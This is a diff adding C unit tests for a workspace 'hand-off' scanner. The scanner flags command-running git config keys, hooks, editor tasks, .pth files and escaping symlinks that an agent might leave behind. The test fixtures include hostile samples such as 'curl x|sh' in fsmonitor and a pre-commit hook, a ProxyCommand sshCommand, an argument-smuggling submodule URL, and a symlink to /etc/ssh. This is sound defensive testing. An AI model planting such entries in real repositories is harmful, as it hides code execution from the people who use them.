@@ -1,0 +1,399 @@
+/* SPDX-License-Identifier: Apache-2.0 */
+/*
+ * Unit tests for the hand-off module: the glob matcher agrees with a
+ * brute-force reference on generated patterns and paths; every rule of the
+ * table matches its intended files at any depth and not their neighbours;
+ * the content inspector reports each command-running entry and stays quiet
+ * on the harmless entry beside it; the scanner and its baselines report
+ * what was planted and nothing that was already there; SHA-256 matches the
+ * FIPS 180-4 examples.
+ */
+#include <errno.h>
+#include <fcntl.h>
+#include <setjmp.h>
+#include <stdarg.h>
+#include <stddef.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/stat.h>
+#include <unistd.h>
+
+#include <cmocka.h>
+
+#include "handoff/handoff.h"
+#include "util/sha256.h"
+
+/* ---- the glob matcher against a backtracking reference ---- */
+
+static const char *ref_pattern; /* the start of the pattern being matched */
+
+static bool ref_match(const char *p, const char *s)
+{
+	if (!*p)
+		return !*s;
+	if (p[0] == '*' && p[1] == '*') {
+		const char *q = p + 2;
+		while (*q == '*')
+			q++;
+		bool boundary = *q == '/' && (p == ref_pattern || p[-1] == '/');
+		/* "**" + "/": zero directories (skip "**" + "/"), or any run
+		 * ending in '/'. Plain "**": any run. */
+		if (boundary && ref_match(q + 1, s))
+			return true;
+		for (const char *t = s;; t++) {
+			if (boundary) {
+				if (t > s && t[-1] == '/' && ref_match(q + 1, t))
+					return true;
+			} else if (ref_match(q, t)) {
+				return true;
+			}
+			if (!*t)
+				return false;
+		}
+	}
+	if (*p == '*') {
+		for (const char *t = s;; t++) {
+			if (ref_match(p + 1, t))
+				return true;
+			if (!*t || *t == '/')
+				return false;
+		}
+	}
+	return *s && *p == *s && ref_match(p + 1, s + 1);
+}
+
+static void test_glob_against_reference(void **state)
+{
+	(void)state;
+	/* Patterns and paths over a small alphabet, all short ones. */
+	static const char pa[] = "a/*";
+	static const char sa[] = "ab/";
+	char p[8], s[8];
+	unsigned long checked = 0;
+	srand(7);
+	for (int iter = 0; iter < 200000; iter++) {
+		int pl = rand() % 7, sl = rand() % 7;
+		for (int i = 0; i < pl; i++)
+			p[i] = pa[rand() % 3];
+		p[pl] = '\0';
+		for (int i = 0; i < sl; i++)
+			s[i] = sa[rand() % 3];
+		s[sl] = '\0';
+		/* "**" + "/" is the directory form only at a name boundary;
+		 * elsewhere "**" is any run, in both. */
+		ref_pattern = p;
+		bool want = ref_match(p, s);
+		if (handoff_glob_match(p, s) != want)
+			fail_msg("pattern \"%s\" path \"%s\": matcher %d, reference %d", p, s, !want, want);
+		checked++;
+	}
+	assert_true(checked > 50000);
+}
+
+static void test_rules_match_at_any_depth(void **state)
+{
+	(void)state;
+	static const struct {
+		const char *path;
+		const char *category; /* NULL: no rule */
+	} cases[] = {
+		{ ".git/hooks/pre-commit", "git" },
+		{ "sub/repo/.git/hooks/post-checkout", "git" },
+		{ ".git/config", "git" },
+		{ "nested/.git/config", "git" },
+		{ ".git/worktrees/wt1/config.worktree", "git" },
+		{ ".git/modules/lib/hooks/pre-push", "git" },
+		{ ".git/info/attributes", "git" },
+		{ ".gitattributes", "git" },
+		{ "docs/.gitattributes", "git" },
+		{ ".husky/pre-commit", "git" },
+		{ ".vscode/tasks.json", "editor" },
+		{ "proj.code-workspace", "editor" },
+		{ ".envrc", "shell" },
+		{ "svc/.envrc", "shell" },
+		{ ".venv/bin/python", "python" },
+		{ "lib/python3.12/site-packages/evil.pth", "python" },
+		{ ".github/workflows/ci.yml", "ci" },
+		{ ".gitlab-ci.yml", "ci" },
+		{ ".devcontainer/devcontainer.json", "container" },
+		{ ".claude/settings.json", "agent" },
+		{ ".mcp.json", "agent" },
+		{ "Makefile", "build" },
+		{ "src/Makefile", "build" },
+		/* neighbours */
+		{ ".git/objects/ab/cdef", NULL },
+		{ ".git/refs/heads/main", NULL },
+		{ ".git/index", NULL },
+		{ ".git/HEAD", NULL },
+		{ ".githooks-notes", NULL },
+		{ "x.git/hooks/pre-commit", NULL },
+		{ ".git/hooksy/a", NULL },
+		{ "src/main.c", NULL },
+		{ "Makefile.am", NULL },
+		{ "myMakefile", NULL },
+		{ "site-packages/a/b.pth", NULL },
+		{ ".envrc.bak", NULL },
+		{ "README.md", NULL },
+	};
+	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
+		const struct handoff_rule *r = handoff_match(cases[i].path);
+		if (!cases[i].category && r)
+			fail_msg("%s: matched %s, wanted none", cases[i].path, r->pattern);
+		if (cases[i].category && (!r || strcmp(r->category, cases[i].category)))
+			fail_msg("%s: %s, wanted category %s", cases[i].path, r ? r->category : "no rule",
+				 cases[i].category);
+	}
+}
+
+/* ---- the inspector ---- */
+
+static size_t inspect(const char *rel, const char *text, struct handoff_finding *f)
+{
+	return handoff_inspect(rel, text, strlen(text), f, HANDOFF_MAX_FINDINGS);
+}
+
+static bool any_finding(const struct handoff_finding *f, size_t n, const char *needle)
+{
+	for (size_t i = 0; i < n; i++)
+		if (strstr(f[i].what, needle))
+			return true;
+	return false;
+}
+
+static void test_inspect_git_config(void **state)
+{
+	(void)state;
+	struct handoff_finding f[HANDOFF_MAX_FINDINGS];
+	const char *cfg = "[core]\n"
+			  "\trepositoryformatversion = 0\n"
+			  "\tfilemode = true\n"
+			  "\tfsmonitor = sh -c 'curl x|sh'\n"
+			  "\tsshCommand = ssh -oProxyCommand=evil\n"
+			  "[filter \"lfsx\"]\n"
+			  "\tsmudge = ./payload\n"
+			  "[alias]\n"
+			  "\tst = status\n"
+			  "\tup = !sh -c evil\n"
+			  "[includeIf \"gitdir:~/\"]\n"
+			  "\tpath = /tmp/x\n"
+			  "[remote \"origin\"]\n"
+			  "\turl = https://example.test/r.git\n"
+			  "\tuploadpack = evil\n";
+	size_t n = inspect(".git/config", cfg, f);
+	assert_true(any_finding(f, n, "core.fsmonitor"));
+	assert_true(any_finding(f, n, "core.sshCommand"));
+	assert_true(any_finding(f, n, "filter.lfsx.smudge"));
+	assert_true(any_finding(f, n, "alias.up"));
+	assert_true(any_finding(f, n, "includeIf.gitdir:~/.path"));
+	assert_true(any_finding(f, n, "remote.origin.uploadpack"));
+	assert_false(any_finding(f, n, "alias.st"));
+	assert_false(any_finding(f, n, "filemode"));
+	assert_false(any_finding(f, n, "remote.origin.url"));
+	assert_int_equal(n, 6);
+	assert_int_equal(f[0].line, 4);
+
+	/* The same keys, switched off or harmless, report nothing. */
+	const char *quiet = "[core]\n\tfsmonitor = false\n\tbare = false\n[user]\n\tname = x\n";
+	assert_int_equal(inspect(".git/config", quiet, f), 0);
+	/* A file named config outside .git is not git's. */
+	assert_int_equal(inspect("app/config", cfg, f), 0);
+	/* Old-style [section.sub] and a key on the section line. */
+	n = inspect("sub/.git/config", "[diff.pdf]\n\ttextconv = pdftotext\n[core] hooksPath = /tmp/h\n", f);
+	assert_int_equal(n, 2);
+	assert_true(any_finding(f, n, "diff.pdf.textconv"));
+	assert_true(any_finding(f, n, "core.hooksPath"));
+}
+
+static void test_inspect_other_files(void **state)
+{
+	(void)state;
+	struct handoff_finding f[HANDOFF_MAX_FINDINGS];
+
+	assert_int_equal(inspect(".gitattributes", "*.c filter=evil\n*.png binary\n", f), 1);
+	assert_int_equal(inspect(".gitattributes", "*.png binary\n*.txt text eol=lf\n", f), 0);
+	assert_int_equal(inspect(".gitmodules", "[submodule \"x\"]\n\tpath = x\n\tupdate = !sh evil\n", f), 1);
+	assert_int_equal(inspect(".gitmodules", "[submodule \"x\"]\n\tpath = x\n\turl = -u./payload\n", f), 1);
+	assert_int_equal(inspect(".gitmodules", "[submodule \"x\"]\n\tpath = x\n\turl = https://e.test/x\n", f), 0);
+	assert_int_equal(inspect(".vscode/tasks.json",
+				 "{\"tasks\":[{\n\"label\":\"x\",\n\"runOptions\":{\"runOn\":\"folderOpen\"}}]}\n", f),
+			 1);
+	assert_int_equal(inspect(".vscode/tasks.json", "{\"tasks\":[{\n\"label\":\"build\"}]}\n", f), 0);
+	assert_int_equal(inspect(".vscode/settings.json", "{\n  \"python.defaultInterpreterPath\": \"/tmp/x\"\n}\n", f),
+			 1);
+	assert_int_equal(inspect(".vscode/settings.json", "{\n  \"editor.tabSize\": 4\n}\n", f), 0);
+	assert_int_equal(inspect(".mcp.json", "{\"mcpServers\":{\"x\":{\n\"command\": \"sh\"}}}\n", f), 1);
+	assert_int_equal(inspect("lib/site-packages/a.pth", "import os; os.system('x')\n/usr/lib/extra\n", f), 1);
+	assert_int_equal(inspect("lib/site-packages/a.pth", "/usr/lib/extra\n", f), 0);
+	assert_int_equal(inspect(".yarnrc.yml", "yarnPath: .yarn/releases/evil.cjs\n", f), 1);
+	assert_int_equal(inspect("sub/.git", "gitdir: /home/u/other/.git\n", f), 1);
+	assert_int_equal(inspect("sub/.git", "gitdir: ../.git/modules/sub\n", f), 0);
+	/* Control bytes never reach a finding's text. */
+	size_t n = inspect(".git/config", "[core]\n\tpager = \x1b[2Jevil\n", f);
+	assert_int_equal(n, 1);
+	assert_null(strchr(f[0].what, '\x1b'));
+}
+
+static void test_path_escapes(void **state)
+{
+	(void)state;
+	assert_true(handoff_path_escapes("keys", "/root/.ssh"));
+	assert_true(handoff_path_escapes("keys", "../x"));
+	assert_true(handoff_path_escapes("a/keys", "../../x"));
+	assert_true(handoff_path_escapes("a/keys", "b/../../../x"));
+	assert_false(handoff_path_escapes("a/keys", "../x"));
+	assert_false(handoff_path_escapes("a/keys", "./b/../c"));
+	assert_false(handoff_path_escapes("keys", "sub/file"));
+}
+
+static void test_sha256_vectors(void **state)
+{
+	(void)state;
+	char hex[65];
+	sha256_hex("abc", 3, hex);
+	assert_string_equal(hex, "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad");
+	sha256_hex("", 0, hex);
+	assert_string_equal(hex, "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855");
+	const char *two = "abcdbcdecdefdefgefghfghighijhijkijkljklmklmnlmnomnopnopq";
+	sha256_hex(two, strlen(two), hex);
+	assert_string_equal(hex, "248d6a61d20638b8e5c026930c3e6039a33ce45964ff2167f6ecedd419db06c1");
+	/* One million 'a', fed in uneven pieces. */
+	struct sha256 c;
+	uint8_t d[32];
+	char block[997];
+	memset(block, 'a', sizeof(block));
+	sha256_init(&c);
+	size_t left = 1000000;
+	for (size_t k = 1; left; k = k % 997 + 1) {
+		size_t take = k < left ? k : left;
+		sha256_update(&c, block, take);
+		left -= take;
+	}
+	sha256_final(&c, d);
+	for (int i = 0; i < 32; i++)
+		snprintf(hex + 2 * i, 3, "%02x", d[i]);
+	assert_string_equal(hex, "cdc76e5c9914fb9281a1c7e284d73e67f1809a48a497200e046d39ccc7112cd0");
+}
+
+/* ---- the scanner ---- */
+
+static void put(const char *root, const char *rel, const char *text, mode_t mode)
+{
+	char path[4096];
+	snprintf(path, sizeof(path), "%s/%s", root, rel);
+	for (char *p = path + strlen(root) + 1; (p = strchr(p, '/')); p++) {
+		*p = '\0';
+		mkdir(path, 0755);
+		*p = '/';
+	}
+	int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, mode);
+	assert_true(fd >= 0);
+	assert_int_equal(write(fd, text, strlen(text)), (ssize_t)strlen(text));
+	close(fd);
+	chmod(path, mode);
+}
+
+static const struct handoff_entry *find(const struct handoff_report *rep, const char *path)
+{
+	for (size_t i = 0; i < rep->n; i++)
+		if (!strcmp(rep->e[i].path, path))
+			return &rep->e[i];
+	return NULL;
+}
+
+static const struct handoff_entry *must_find(const struct handoff_report *rep, const char *path)
+{
+	static const struct handoff_entry none = { 0 };
+	const struct handoff_entry *x = find(rep, path);
+	if (!x)
+		fail_msg("%s is not in the report", path);
+	return x ? x : &none;
+}
+
+static void test_scan_and_baseline(void **state)
+{
+	(void)state;
+	char root[] = "/tmp/airlock-handoff-test.XXXXXX", base[4200];
+	assert_non_null(mkdtemp(root));
+	put(root, "src/main.c", "int main(void){return 0;}\n", 0644);
+	put(root, ".git/config", "[core]\n\tbare = false\n", 0644);
+	put(root, ".git/hooks/pre-commit.sample", "#!/bin/sh\n", 0755);
+	put(root, ".github/workflows/ci.yml", "on: push\n", 0644);
+	put(root, "bin/tool", "#!/bin/sh\n", 0755);
+
+	struct error err = { 0 };
+	struct handoff_report rep = { 0 };
+	struct handoff_scan_opts opts = { 0 };
+	assert_int_equal(handoff_scan(root, &opts, &rep, &err), 0);
+	assert_non_null(find(&rep, ".github/workflows/ci.yml"));
+	assert_non_null(find(&rep, ".git/config"));
+	assert_null(find(&rep, ".git/hooks/pre-commit.sample"));
+	assert_null(find(&rep, "src/main.c"));
+	for (size_t i = 0; i < rep.n; i++)
+		assert_false(rep.e[i].flagged);
+	handoff_report_free(&rep);
+
+	snprintf(base, sizeof(base), "%s.base", root);
+	assert_int_equal(handoff_baseline_save(root, base, &err), 0);
+
+	/* The agent's work: an edit, a hook, a config key, a new tool, a
+	 * link out, a workflow change; and an ordinary source edit. */
+	put(root, "src/main.c", "int main(void){return 1;}\n", 0644);
+	put(root, ".git/hooks/pre-commit", "#!/bin/sh\ncurl x|sh\n", 0755);
+	put(root, ".git/config", "[core]\n\tbare = false\n\thooksPath = /tmp/h\n", 0644);
+	put(root, ".github/workflows/ci.yml", "on: push\njobs: {}\n", 0644);
+	put(root, "newtool", "#!/bin/sh\n", 0755);
+	char link[4200];
+	snprintf(link, sizeof(link), "%s/keys", root);
+	assert_int_equal(symlink("/etc/ssh", link), 0);
+
+	struct handoff_baseline *b = NULL;
+	assert_int_equal(handoff_baseline_load(base, &b, &err), 0);
+	opts.baseline = b;
+	assert_int_equal(handoff_scan(root, &opts, &rep, &err), 0);
+	const struct handoff_entry *x;
+	x = must_find(&rep, ".git/hooks/pre-commit");
+	assert_true(x->flagged);
+	assert_int_equal(x->change, HANDOFF_ADDED);
+	x = must_find(&rep, ".git/config");
+	assert_true(x->flagged);
+	assert_int_equal(x->change, HANDOFF_MODIFIED);
+	assert_non_null(strstr(x->reason, "core.hooksPath"));
+	x = must_find(&rep, ".github/workflows/ci.yml");
+	assert_int_equal(x->change, HANDOFF_MODIFIED);
+	x = must_find(&rep, "newtool");
+	assert_true(x->flagged);
+	x = must_find(&rep, "keys");
+	assert_true(x->flagged);
+	assert_null(find(&rep, "src/main.c"));
+	assert_null(find(&rep, "bin/tool"));
+	assert_int_equal(rep.n, 5);
+	handoff_report_free(&rep);
+	handoff_baseline_free(b);
+
+	/* A baseline that is not one is refused with its line. */
+	put(root, "bad.base", "airlock-handoff-baseline 1\nF zz 644\n", 0644);
+	char bad[4200];
+	snprintf(bad, sizeof(bad), "%s/bad.base", root);
+	assert_int_equal(handoff_baseline_load(bad, &b, &err), -EINVAL);
+	assert_non_null(strstr(err.msg, ":2:"));
+
+	char cmd[8500];
+	snprintf(cmd, sizeof(cmd), "rm -rf '%s' '%s'", root, base);
+	assert_int_equal(system(cmd), 0);
+}
+
+int main(void)
+{
+	const struct CMUnitTest tests[] = {
+		cmocka_unit_test(test_glob_against_reference),
+		cmocka_unit_test(test_rules_match_at_any_depth),
+		cmocka_unit_test(test_inspect_git_config),
+		cmocka_unit_test(test_inspect_other_files),
+		cmocka_unit_test(test_path_escapes),
+		cmocka_unit_test(test_sha256_vectors),
+		cmocka_unit_test(test_scan_and_baseline),
+	};
+	return cmocka_run_group_tests(tests, NULL, NULL);
+}
